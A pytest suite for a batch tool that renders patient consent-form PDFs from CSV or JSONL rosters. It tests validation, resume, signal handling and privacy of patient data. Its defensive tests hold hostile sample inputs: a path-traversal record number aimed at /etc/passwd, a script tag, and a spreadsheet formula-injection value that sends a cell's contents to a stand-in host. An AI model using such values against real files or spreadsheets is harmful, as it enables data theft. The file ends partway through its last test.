"""`consent batch`: rosters in, one packet per valid row, a manifest, nothing lost."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from pypdf import PdfReader
from typer.testing import CliRunner

from consent import batch
from consent.batch import file_name, unique_name
from consent.cli import app
from consent.resources import locales_dir, tables_dir

from pdftools import pdftotext

HEADER = (
    "patient_name,date_of_birth,record_number,procedure,table_version,locale,clinician,"
    "date,interpreter_name,interpreter_language"
)


def roster(tmp_path: Path, *rows: str, name: str = "roster.csv") -> Path:
    path = tmp_path / name
    path.write_text("\ufeff" + "\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def row(
    record: str,
    name: str = "Alex Doe",
    procedure: str = "bariatric-revision",
    locale: str = "en",
    date: str = "2026-12-01",
    **extra: str,
) -> str:
    values = {
        "patient_name": name,
        "date_of_birth": "1980-02-03",
        "record_number": record,
        "procedure": procedure,
        "table_version": "",
        "locale": locale,
        "clinician": "Dr. Rivera",
        "date": date,
        "interpreter_name": "",
        "interpreter_language": "",
        **extra,
    }
    out = []
    for key in HEADER.split(","):
        value = values[key]
        out.append(
            '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value
        )
    return ",".join(out)


def run(*args: str):
    return CliRunner().invoke(app, list(args), terminal_width=200)


def manifest(out: Path) -> list[dict]:
    return [json.loads(line) for line in (out / "manifest.jsonl").read_text().splitlines()]


@pytest.fixture
def bariatric_copy(write_table) -> Path:
    """An institution's folder (``tables_root``) holding a copy of the reference table."""
    bundled = tables_dir() / "bariatric-revision" / "2026.2.yaml"
    return write_table(bundled.read_text(encoding="utf-8"), "bariatric-revision", "2026.2")


def test_mixed_roster_renders_the_good_rows_and_reports_the_bad(tmp_path):
    path = roster(
        tmp_path,
        row("MRN-1"),
        row("MRN-2", procedure="knee"),
        row("MRN-3", locale="es-MX"),
        row("MRN-4", date="2026-02-30"),
        row("MRN-1"),  # same record, procedure and date as line 2
        row("MRN-6", name=""),
    )
    out = tmp_path / "out"
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "2")
    assert result.exit_code == 1
    entries = manifest(out)
    # Rows are numbered by roster line, as a text editor or spreadsheet shows them.
    assert [(e["row"], e["status"]) for e in entries] == [
        (2, "ok"),
        (3, "failed"),
        (4, "ok"),
        (5, "failed"),
        (6, "failed"),
        (7, "failed"),
    ]
    errors = {e["row"]: e["error"] for e in entries if e["error"]}
    assert "unknown procedure (in the procedure column)" in errors[3]
    assert "date must be a real date" in errors[5]
    assert "already has a bariatric-revision packet dated 2026-12-01 in row 2" in errors[6]
    assert errors[7] == "patient_name is missing"
    assert sorted(p.name for p in out.glob("*.pdf")) == [
        "MRN-1_bariatric-revision_en_2026-12-01.pdf",
        "MRN-3_bariatric-revision_es-MX_2026-12-01.pdf",
    ]
    for entry in entries:
        if entry["status"] == "ok":
            pdf = out / entry["output"]
            assert entry["pages"] == len(PdfReader(pdf).pages)
    mexican = " ".join(p.extract_text() for p in PdfReader(out / entries[2]["output"]).pages)
    assert "10,000" in mexican and "10.000" not in mexican  # es-MX numbers, Spanish catalog
    with (out / "manifest.csv").open() as handle:
        assert [r["status"] for r in csv.DictReader(handle)] == [e["status"] for e in entries]
    assert "Alex" not in result.output and "Alex" not in (out / "manifest.jsonl").read_text()


@pytest.mark.parametrize(
    ("record", "name", "message"),
    [
        ("../../etc/passwd", "Alex Doe", None),
        ("/abs/path", "Alex Doe", None),
        ("CON", "Alex Doe", None),
        ("MRN-7", "<b>Alex</b> <script>x</script>", None),
        ("MRN-8", "Alex\u202eeoD", "control or invisible"),
        ("MRN-9", "Alex\x00Doe", "control or invisible"),
        ("MRN-10", "A" * 10_000, "longer than 200 characters"),
    ],
)
def test_hostile_values_never_escape_the_folder(tmp_path, record, name, message):
    path = tmp_path / "roster.jsonl"
    fields = dict(zip(HEADER.split(","), row(record, name=name).split(","), strict=False))
    fields.update(patient_name=name, record_number=record)
    path.write_text(json.dumps(fields) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "1")
    (entry,) = manifest(out)
    if message:
        assert result.exit_code == 1 and message in entry["error"]
        assert not list(out.glob("*.pdf"))
    else:
        assert result.exit_code == 0, entry
        written = out / entry["output"]
        assert written.parent == out and written.exists()
        assert "/" not in entry["output"] and not entry["output"].startswith(".")
    assert {p.name for p in tmp_path.rglob("*") if p.is_file()} <= {
        "roster.jsonl",
        "manifest.jsonl",
        "manifest.csv",
        ".consent-batch-key",
        ".consent-batch.lock",
        ".consent-batch-started",
        entry["output"],
    }


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        ("../x/y", "x-y_p_en_d.pdf"),
        ("/abs", "abs_p_en_d.pdf"),
        ("CON", "CON_p_en_d.pdf"),
        ("..", "x_p_en_d.pdf"),
        ("a b\u202e", "a-b_p_en_d.pdf"),
        ("C:\\x", "C-x_p_en_d.pdf"),
        ("\u0664\u0668\u0665\u0667", "4857_p_en_d.pdf"),  # Arabic-Indic digits, once "x"
    ],
)
def test_file_names_are_built_from_safe_characters(record, expected):
    assert file_name(record, "p", "en", "d") == expected


def test_file_names_are_unique():
    taken: set[str] = set()
    assert [unique_name("a.pdf", taken) for _ in range(3)] == ["a.pdf", "a-2.pdf", "a-3.pdf"]


def test_check_validates_without_rendering(tmp_path):
    path = roster(tmp_path, row("MRN-1"), row("MRN-2", procedure="knee"))
    out = tmp_path / "out"
    result = run("batch", str(path), "--out-dir", str(out), "--check")
    assert result.exit_code == 1
    assert "row 3 (record MRN-2): unknown procedure (in the procedure column)" in result.stderr
    assert "1 valid row(s), 1 invalid" in result.stdout
    assert not out.exists()


def test_resume_renders_only_missing_or_changed_files(tmp_path):
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"), row("MRN-3"))
    out = tmp_path / "out"
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    first = {e["row"]: e for e in manifest(out)}
    (out / first[2]["output"]).unlink()  # missing
    changed = out / first[3]["output"]
    changed.write_bytes(changed.read_bytes()[:-10])  # damaged
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "1", "--resume", "--json")
    assert result.exit_code == 0
    assert json.loads(result.stdout.splitlines()[-1])["ok"] == 2
    again = {e["row"]: e["status"] for e in manifest(out)}
    assert again == {2: "ok", 3: "ok", 4: "skipped"}


def test_a_run_killed_partway_resumes_with_every_row_once(tmp_path):
    path = roster(tmp_path, *(row(f"MRN-{i}") for i in range(1, 13)))
    out = tmp_path / "out"
    command = [
        sys.executable,
        "-m",
        "consent",
        "batch",
        str(path),
        "--out-dir",
        str(out),
        "--jobs",
        "1",
        "--quiet",
    ]
    process = subprocess.Popen(command, start_new_session=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list(out.glob("*.pdf"))) < 3:
        time.sleep(0.05)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    done_before = {e["row"] for e in manifest(out) if e["status"] == "ok"}
    assert 0 < len(done_before) < 12
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "2", "--resume")
    assert result.exit_code == 0, result.output
    final = {e["row"]: e["status"] for e in manifest(out)}
    assert set(final) == set(range(2, 14))
    assert {r for r, s in final.items() if s == "skipped"} == done_before
    assert {r for r, s in final.items() if s == "ok"} == set(range(2, 14)) - done_before
    assert not list(out.glob(".consent-*.tmp"))
    for pdf in out.glob("*.pdf"):
        assert len(PdfReader(pdf).pages) > 0


def batch_under_way(tmp_path: Path) -> tuple[subprocess.Popen[str], Path]:
    """A 40-row batch in a session of its own, once it has written 3 packets."""
    path = roster(tmp_path, *(row(f"MRN-{i}") for i in range(1, 41)))
    out = tmp_path / "out"
    command = [sys.executable, "-m", "consent", "batch", str(path), "--out-dir", str(out)]
    process = subprocess.Popen(
        [*command, "--jobs", "2"], start_new_session=True, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list(out.glob("*.pdf"))) < 3:
        time.sleep(0.05)
    return process, out


@pytest.mark.parametrize("whole_group", [True, False])
def test_ctrl_c_leaves_every_packet_on_disk_in_the_manifests(tmp_path, whole_group):
    """Ctrl-C reaches the workers too (a terminal signals the whole group): the rows
    being rendered finish and are recorded, and both manifests are written, so a
    rerun can clear or skip every packet this run left."""
    process, out = batch_under_way(tmp_path)
    if whole_group:
        os.killpg(process.pid, signal.SIGINT)
    else:
        process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "Interrupted: finished packets are in the manifest" in stderr
    listed = {e["output"] for e in manifest(out) if e["status"] == "ok"}
    assert {p.name for p in out.glob("*.pdf")} == listed
    assert 0 < len(listed) < 40
    assert (out / "manifest.csv").read_text().count("\n") == len(manifest(out)) + 1
    assert not list(out.glob(".consent-*.tmp"))


def test_unknown_columns_and_unreadable_rosters_are_one_line_errors(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("name,record_number\nA,1\n")
    result = run("batch", str(bad), "--out-dir", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert "column(s) 1 of the first line are not known column names" in result.stderr
    other = tmp_path / "roster.txt"
    other.write_text("x")
    assert "must be .csv or .jsonl" in run("batch", str(other), "--out-dir", str(tmp_path)).stderr


def test_example_roster_in_the_docs_is_valid():
    example = Path(__file__).resolve().parent.parent / "docs" / "example-roster.csv"
    result = run("batch", str(example), "--out-dir", "unused", "--check")
    assert result.exit_code == 0, result.output
    assert "4 valid row(s), 0 invalid" in result.stdout


def batch_in_subprocess(path: Path, out: Path, jobs: str, setup: str, *options: str):
    """`consent batch` in a fresh interpreter after ``setup`` (which sees ``b``, the
    batch module, and ``os``) patches it; with a time limit, so a stall fails, not hangs."""
    code = (
        "import os, sys, consent.batch as b\n"
        f"{setup}"
        "from consent.cli import main\n"
        f"sys.argv = ['consent', 'batch', {str(path)!r}, '--out-dir', {str(out)!r}, "
        f"'--jobs', {jobs!r}, '--quiet', *{list(options)!r}]\n"
        "main()\n"
    )
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)


def test_workers_are_replaced_without_stalling_the_run(tmp_path):
    # Workers retire every RECYCLE_AFTER packets; here every 2, so six rows need three
    # pools. Run in a subprocess with a time limit: a stall must fail, not hang CI.
    path = roster(tmp_path, *(row(f"MRN-{i}") for i in range(1, 7)))
    out = tmp_path / "out"
    result = batch_in_subprocess(path, out, "1", "b.RECYCLE_AFTER = 2\n")
    assert result.returncode == 0, result.stderr
    assert [e["status"] for e in manifest(out)] == ["ok"] * 6


def test_a_dask_cluster_produces_the_same_manifest_as_local_workers(tmp_path):
    distributed = pytest.importorskip("distributed")
    path = roster(
        tmp_path,
        row("MRN-1"),
        row("MRN-2", locale="es"),
        row("MRN-3", procedure="knee"),
        row("MRN-4", procedure="watch-and-wait-rectal", locale="ar"),
    )
    local_out, cluster_out = tmp_path / "local", tmp_path / "cluster"
    assert run("batch", str(path), "--out-dir", str(local_out), "--jobs", "2").exit_code == 1
    with distributed.LocalCluster(
        n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None
    ) as cluster:
        result = run(
            "batch",
            str(path),
            "--out-dir",
            str(cluster_out),
            "--scheduler",
            cluster.scheduler_address,
        )
    assert result.exit_code == 1

    def comparable(out: Path) -> list[dict]:
        # The inputs digest is keyed per output folder, so it differs by design.
        return [
            {k: v for k, v in e.items() if k not in ("duration", "inputs_hmac")}
            for e in manifest(out)
        ]

    # Packets are byte-identical wherever they render, so even the SHA-256s match.
    assert comparable(cluster_out) == comparable(local_out)
    assert [e["status"] for e in manifest(cluster_out)] == ["ok", "ok", "failed", "ok"]


def test_relative_folders_mean_the_same_on_a_cluster(tmp_path, monkeypatch, bariatric_copy):
    # Dask workers run in their own working folders; `--out-dir out` and
    # `--tables tables` must mean the folders where the command was typed.
    distributed = pytest.importorskip("distributed")
    office, elsewhere = tmp_path, tmp_path / "elsewhere"  # tables_root is office/tables
    elsewhere.mkdir()
    path = roster(office, row("MRN-1"))
    monkeypatch.chdir(elsewhere)  # where the workers start
    with distributed.LocalCluster(
        n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None
    ) as cluster:
        monkeypatch.chdir(office)
        result = run(
            "batch",
            str(path),
            "--out-dir",
            "out",
            "--tables",
            "tables",
            "--no-bundled-tables",
            "--scheduler",
            cluster.scheduler_address,
        )
    assert result.exit_code == 0, result.output
    assert (office / "out" / manifest(office / "out")[0]["output"]).is_file()
    assert not list(elsewhere.rglob("*.pdf"))


def test_an_unreachable_scheduler_is_a_clear_error(tmp_path):
    pytest.importorskip("distributed")
    path = roster(tmp_path, row("MRN-1"))
    result = run(
        "batch", str(path), "--out-dir", str(tmp_path / "out"), "--scheduler", "tcp://127.0.0.1:9"
    )
    assert result.exit_code == 1
    assert "cannot reach the Dask scheduler at tcp://127.0.0.1:9" in result.stderr


def one_line_error(tmp_path: Path, text: str) -> str:
    path = tmp_path / "roster.csv"
    path.write_text(text, encoding="utf-8")
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 1 and len(result.stderr.strip().splitlines()) == 1
    return result.stderr


def test_a_roster_without_its_header_never_echoes_the_first_patient(tmp_path):
    message = one_line_error(tmp_path, row("MRN-1", name="Zelda Quist") + "\n")
    assert "is the header missing?" in message and "Zelda" not in message


def test_a_header_only_or_empty_roster_is_an_error(tmp_path):
    assert "has no rows" in one_line_error(tmp_path, HEADER + "\n\n")
    assert "is empty" in one_line_error(tmp_path, "")


def test_a_column_named_twice_is_an_error(tmp_path):
    assert "appears twice in the header" in one_line_error(
        tmp_path, HEADER + ",date\n" + row("MRN-1") + ",2026-12-02\n"
    )


def test_broken_csv_quoting_names_the_line(tmp_path):
    text = "\n".join([HEADER, row("MRN-1"), '"Alex Doe,1980-02-03', row("MRN-3")]) + "\n"
    message = one_line_error(tmp_path, text)
    assert ":3: not valid CSV (unexpected end of data)" in message and "Alex" not in message


def test_rows_count_by_line_even_when_a_cell_spans_lines(tmp_path):
    path = roster(tmp_path, row("MRN-1", clinician="Dr. Rivera\nSurgery"), row("MRN-2", locale=""))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert "row 2 (record MRN-1): clinician" in result.stderr
    assert "row 4 (record MRN-2): locale is missing" in result.stderr


@pytest.mark.parametrize("field", ["date", "locale"])
def test_a_batch_never_guesses_the_date_or_language(tmp_path, field):
    path = roster(tmp_path, row("MRN-1", **{field: "  "}))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 1 and f"{field} is missing" in result.stderr


def test_json_lines_with_a_key_twice_fail_that_row_only(tmp_path):
    fields = dict(zip(HEADER.split(","), row("MRN-1").split(","), strict=True))
    good = json.dumps(fields)
    twice = good[:-1] + ', "record_number": "MRN-9"}'
    path = tmp_path / "roster.jsonl"
    path.write_text(good + "\n\n" + twice + "\n", encoding="utf-8")
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert "row 3" in result.stderr and "record_number appear twice" in result.stderr
    assert "1 valid row(s), 1 invalid" in result.stdout


def test_resume_renders_again_when_the_roster_row_changed(tmp_path):
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    # Same file name (record, procedure, locale, date) but a corrected patient name.
    roster(tmp_path, row("MRN-1"), row("MRN-2", name="Alexandra Doe"))
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "1", "--resume")
    assert result.exit_code == 0
    assert {e["row"]: e["status"] for e in manifest(out)} == {2: "skipped", 3: "ok"}
    text = " ".join(p.extract_text() for p in PdfReader(out / manifest(out)[1]["output"]).pages)
    assert "Alexandra Doe" in text
    assert "Alexandra" not in (out / "manifest.jsonl").read_text()


def test_a_row_that_kills_its_worker_fails_alone(tmp_path):
    # A worker killed mid-row (out of memory, say) breaks its whole pool. The other
    # rows in it must still render; only the row that kills its worker is failed.
    path = roster(tmp_path, *(row(f"MRN-{i}") for i in range(1, 6)))
    out = tmp_path / "out"
    setup = (
        "render = b._render_job\n"
        "def killer(job, *args):\n"
        "    if job.record_number == 'MRN-3':\n"
        "        os._exit(9)\n"
        "    return render(job, *args)\n"
        "b._render_job = killer\n"
    )
    result = batch_in_subprocess(path, out, "2", setup)
    assert result.returncode == 1, result.stderr
    statuses = {e["row"]: (e["status"], e["error"]) for e in manifest(out)}
    assert statuses == {
        2: ("ok", None),
        3: ("ok", None),
        4: ("failed", "the worker process stopped while rendering this row"),
        5: ("ok", None),
        6: ("ok", None),
    }


def test_a_row_is_ok_only_once_its_page_count_is_known(tmp_path):
    path = roster(tmp_path, row("MRN-1"))
    out = tmp_path / "out"
    setup = "def broken(pdf):\n    raise ValueError('unreadable')\nb._page_count = broken\n"
    result = batch_in_subprocess(path, out, "1", setup)
    assert result.returncode == 1, result.stderr
    (entry,) = manifest(out)
    assert (entry["status"], entry["error"]) == ("failed", "internal error (ValueError)")


def test_a_table_edited_after_the_roster_was_checked_fails_the_rows_left(
    tmp_path, tables_root, bariatric_copy
):
    # Rows are checked against a table's bytes before any renders; a worker that
    # reads the file later must not print other numbers under that version's name.
    tables, copy = tables_root, bariatric_copy
    planned = batch.plan(batch.read_roster(roster(tmp_path, row("MRN-1"), row("MRN-2"))), [tables])
    first, second = planned.jobs
    out = tmp_path / "out"
    out.mkdir()
    assert batch._render_job(first, str(out), [str(tables)])["status"] == "ok"
    copy.write_text(copy.read_text().replace("revision: {rate: 0.05,", "revision: {rate: 0.50,"))
    batch._load_once.cache_clear()  # as a worker started after the edit
    entry = batch._render_job(second, str(out), [str(tables)])
    assert entry["status"] == "failed"
    assert "risk table bariatric-revision version 2026.2 changed on disk" in entry["error"]
    assert not (out / second.output).exists()


def test_a_worker_that_outlives_a_run_reads_an_edited_table_again(
    tmp_path, tables_root, bariatric_copy
):
    # A Dask worker keeps its loaded tables between runs; the next run's plan has
    # the edited file's checksum, and the worker must render from that file.
    tables, copy = tables_root, bariatric_copy
    path = roster(tmp_path, row("MRN-1"))
    out = tmp_path / "out"
    out.mkdir()
    (job,) = batch.plan(batch.read_roster(path), [tables]).jobs
    assert batch._render_job(job, str(out), [str(tables)])["status"] == "ok"
    copy.write_text(copy.read_text().replace("revision: {rate: 0.05,", "revision: {rate: 0.50,"))
    (job,) = batch.plan(batch.read_roster(path), [tables]).jobs
    assert batch._render_job(job, str(out), [str(tables)])["status"] == "ok"
    text = " ".join(p.extract_text() for p in PdfReader(out / job.output).pages)
    assert "about 50 in 100" in " ".join(text.split())


@pytest.mark.parametrize("change", ["marked reviewed", "translation corrected"])
def test_resume_renders_again_when_the_catalog_changed(tmp_path, change):
    # A packet says on every page whether its translation was reviewed, and its
    # text comes from the compiled catalog: a packet made before either changed
    # is out of date, however well its file matches the manifest.
    locales = tmp_path / "locales"
    shutil.copytree(locales_dir(), locales)
    setup = (
        "import consent.i18n, consent.catalogs\n"
        "from pathlib import Path\n"
        f"consent.i18n.locales_dir = consent.catalogs.locales_dir = lambda: Path({str(locales)!r})\n"
    )
    path = roster(tmp_path, row("MRN-1", locale="es"), row("MRN-2", locale="pl"))
    out = tmp_path / "out"
    assert batch_in_subprocess(path, out, "1", setup).returncode == 0
    packet = out / manifest(out)[0]["output"]
    assert "Translation not yet reviewed" in " ".join(pdftotext(packet).split())

    po = locales / "es" / "LC_MESSAGES" / "messages.po"
    if change == "marked reviewed":
        marks = po.read_text().replace("# Reviewed-By:\n", "# Reviewed-By: R. Ortega\n")
        po.write_text(marks.replace("# Reviewed-On:\n", "# Reviewed-On: 2026-11-01\n"))
    else:
        po.write_text(po.read_text().replace('msgstr "Firmas"', 'msgstr "Firmas y fechas"'))
    # The .mo records the .po it was made from: any edit of the .po needs a compile.
    assert run("locales", "compile", "--locales", str(locales)).exit_code == 0
    result = batch_in_subprocess(path, out, "1", setup, "--resume")
    assert result.returncode == 0, result.stderr
    assert [e["status"] for e in manifest(out)] == ["ok", "skipped"]
    text = " ".join(pdftotext(packet).split())
    if change == "marked reviewed":
        assert "Translation not yet reviewed" not in text
    else:
        assert "Firmas y fechas" in text


def test_a_row_that_now_fails_leaves_no_older_packet_under_its_name(tmp_path):
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    (entry,) = manifest(out)
    # The same file name, but a clinician the fonts cannot print: the row fails,
    # and the packet with the old clinician must not stay there to be printed.
    roster(tmp_path, row("MRN-1", clinician="Dr. 李 Rivera"))
    result = run("batch", str(path), "--out-dir", str(out), "--jobs", "1")
    assert result.exit_code == 1
    assert [e["status"] for e in manifest(out)] == ["failed"]
    assert not (out / entry["output"]).exists()


def test_packets_the_roster_no_longer_makes_are_removed_and_nothing_else(tmp_path):
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"), row("MRN-3"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "2").exit_code == 0
    first, second, third = (out / e["output"] for e in manifest(out))
    (out / "notes.pdf").write_bytes(b"%PDF- the office's own file")
    # MRN-2 is now refused before rendering, MRN-3 is gone from the roster.
    roster(tmp_path, row("MRN-1"), row("MRN-2", date_of_birth="2030-01-01"))
    result = run("batch", str(path), "--out-dir", str(out), "--resume")
    assert result.exit_code == 1
    assert [e["status"] for e in manifest(out)] == ["skipped", "failed"]
    assert "removed 2 packet(s) an earlier run here wrote" in result.stdout
    assert first.exists() and not second.exists() and not third.exists()
    assert (out / "notes.pdf").exists()


def test_a_run_that_starts_over_clears_earlier_packets_before_rendering(tmp_path):
    # Without --resume the manifest starts empty; killed before it renders again,
    # the run must not leave earlier packets the new manifest does not list.
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    assert len(list(out.glob("*.pdf"))) == 2
    killed = batch_in_subprocess(path, out, "1", "b._render_locally = lambda *a: os._exit(9)\n")
    assert killed.returncode == 9
    assert list(out.glob("*.pdf")) == [] and manifest(out) == []


def test_every_line_of_an_interrupted_manifest_counts_when_clearing(tmp_path):
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    first = out / manifest(out)[0]["output"]
    # As a resumed run killed partway leaves it: a second line for row 2, which
    # then held another patient's row and was refused.
    with (out / "manifest.jsonl").open("a") as log:
        log.write(json.dumps({"row": 2, "record_number": "MRN-9", "status": "failed"}) + "\n")
    roster(tmp_path, row("MRN-2"))
    result = run("batch", str(path), "--out-dir", str(out), "--resume")
    assert result.exit_code == 0
    assert not first.exists()
    assert "removed 1 packet(s)" in result.stdout


def test_the_json_summary_counts_the_packets_removed(tmp_path):
    out = tmp_path / "out"
    path = roster(tmp_path, row("MRN-1"), row("MRN-2"))
    assert run("batch", str(path), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    roster(tmp_path, row("MRN-1"))
    result = run("batch", str(path), "--out-dir", str(out), "--resume", "--json")
    assert result.exit_code == 0
    summary = json.loads(result.stdout)
    assert (summary["skipped"], summary["removed"]) == (1, 1)


def test_check_refuses_a_name_the_fonts_cannot_print_before_any_rendering(tmp_path):
    path = roster(tmp_path, row("MRN-1", name="王小明"), row("MRN-2", name="Anna 😀"), row("MRN-3"))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 1
    assert "row 2 (record MRN-1): patient name has a CJK character that" in result.stderr
    assert "row 3 (record MRN-2): patient name has a symbol that" in result.stderr
    # Not even the character: one character of a name is patient data too.
    for shown in ("王", "738B", "😀", "Anna"):
        assert shown not in result.stderr
    assert "1 valid row(s), 2 invalid" in result.stdout


@pytest.mark.parametrize(
    ("field", "column"),
    [("procedure", "procedure"), ("locale", "locale"), ("table_version", "table_version")],
)
def test_a_name_in_the_wrong_column_is_never_quoted(tmp_path, field, column):
    """A roster with its columns mixed up puts a patient's name where an id belongs."""
    path = roster(tmp_path, row("MRN-1", **{field: "Maria Lopez"}))
    out = tmp_path / "out"
    result = run("batch", str(path), "--out-dir", str(out))
    assert result.exit_code == 1
    assert f"(in the {column} column)" in result.stderr
    assert "Maria" not in result.stderr
    assert "Maria" not in (out / "manifest.jsonl").read_text()
    assert "Maria" not in (out / "manifest.csv").read_text()


def test_the_csv_manifest_never_holds_a_formula(tmp_path):
    """manifest.csv is opened in spreadsheets; a record number can come from anyone."""
    path = roster(tmp_path, row('=HYPERLINK("http://x.example/?"&A1,"click")'), row("+1-MRN"))
    out = tmp_path / "out"
    run("batch", str(path), "--out-dir", str(out), "--check")
    run("batch", str(path), "--out-dir", str(out))
    with (out / "manifest.csv").open(newline="") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'+1-MRN" in cells


@pytest.mark.parametrize(("signal_number", "presses"), [(signal.SIGINT, 3), (signal.SIGTERM, 1)])
def test_repeated_ctrl_c_or_sigterm_still_stops_cleanly(tmp_path, signal_number, presses):
    """Ctrl-C pressed again while the last rows finish used to hang the run and leave
    workers behind; SIGTERM (a service stopping) ended it without manifests."""
    process, out = batch_under_way(tmp_path)
    for _ in range(presses):
        os.killpg(process.pid, signal_number)
        time.sleep(0.1)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "Traceback" not in stderr and "Exception ignored" not in stderr
    time.sleep(0.5)
    with pytest.raises(ProcessLookupError):  # no worker outlives the run
        os.killpg(process.pid, 0)
    listed = {e["output"] for e in manifest(out) if e["status"] == "ok"}
    assert {p.name for p in out.glob("*.pdf")} == listed
    with (out / "manifest.csv").open(newline="") as handle:
        assert {r["output"] for r in csv.DictReader(handle) if r["status"] == "ok"} == listed


def test_a_link_where_the_csv_manifest_goes_is_refused_before_rendering(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "manifest.csv").symlink_to(tmp_path / "elsewhere.csv")
    result = run("batch", str(roster(tmp_path, row("MRN-1"))), "--out-dir", str(out))
    assert result.exit_code == 1
    assert "manifest.csv: it is a link" in result.output
    assert not list(out.glob("*.pdf"))


def test_sigkill_to_the_main_process_stops_its_workers_and_resume_clears_their_files(
    tmp_path,
):
    """The workers went on rendering after `kill -9` of the main process: packets no
    manifest listed stayed in the folder (a row then taken out of the roster kept
    its packet), and the idle workers held on. Workers now end with the main
    process, and the names a run was about to render are written down first."""
    process, out = batch_under_way(tmp_path)
    process.kill()  # the main process only, as an out-of-memory killer would
    process.wait()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            os.killpg(process.pid, 0)
        except ProcessLookupError:
            break
        time.sleep(0.1)
    else:
        os.killpg(process.pid, signal.SIGKILL)
        pytest.fail("workers outlived the main process")
    listed = {e["output"] for e in manifest(out) if e["status"] == "ok"}
    on_disk = {p.name for p in out.glob("*.pdf")}
    assert on_disk >= listed
    dropped = sorted(on_disk)[-1]  # a packet on disk, whether or not it was recorded
    record = dropped.split("_")[0]
    rows = [row(f"MRN-{i}") for i in range(1, 41) if f"MRN-{i}" != record]
    result = run("batch", str(roster(tmp_path, *rows)), "--out-dir", str(out), "--resume")
    assert result.exit_code == 0, result.output
    listed = {e["output"] for e in manifest(out) if e["status"] in ("ok", "skipped")}
    assert {p.name for p in out.glob("*.pdf")} == listed and dropped not in listed


def test_a_second_run_into_a_folder_in_use_is_refused(tmp_path):
    """Two runs into one folder wrote each other's packets under names their
    manifests gave other patients."""
    import fcntl

    out = tmp_path / "out"
    out.mkdir()
    with (out / ".consent-batch.lock").open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        result = run("batch", str(roster(tmp_path, row("MRN-1"))), "--out-dir", str(out))
    assert result.exit_code == 1
    assert f"another consent batch is writing to {out}" in result.stderr
    assert not list(out.glob("*.pdf")) and not (out / "manifest.jsonl").exists()


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ({"locale": "und"}, "names no language"),
        ({"locale": "en-XA"}, "the pseudo-locale is for checking layouts, not for patients"),
        ({"patient_name": "Ann\u2028Sep"}, "control or invisible formatting characters"),
    ],
    ids=["undetermined language", "pseudo-locale", "line separator in a name"],
)
def test_rows_a_packet_would_get_wrong_are_refused(tmp_path, cells, message):
    name = cells.pop("patient_name", "Alex Doe")
    path = roster(tmp_path, row("MRN-1", name=name, **cells))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 1
    assert message in result.stderr


def test_record_numbers_spaced_differently_are_different_patients(tmp_path):
    path = roster(tmp_path, row("12 345"), row("123 45"))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 0, result.output


def test_a_run_clears_what_a_killed_run_left_half_done(tmp_path):
    """A writer killed mid-file left a hidden full copy of a packet; a run killed
    outright left the CSV manifest of the run before it, naming other rows."""
    out = tmp_path / "out"
    first = run("batch", str(roster(tmp_path, row("MRN-1"))), "--out-dir", str(out))
    assert first.exit_code == 0 and (out / "manifest.csv").exists()
    partial = out / ".consent-k2j3h4.tmp"
    partial.write_bytes(b"%PDF-1.7 half a packet")
    path = roster(tmp_path, *(row(f"MRN-{i}") for i in range(2, 42)), name="more.csv")
    process = subprocess.Popen(
        [sys.executable, "-m", "consent", "batch", str(path), "--out-dir", str(out), "--jobs", "2"],
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not list(out.glob("MRN-2*.pdf")):
        time.sleep(0.05)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
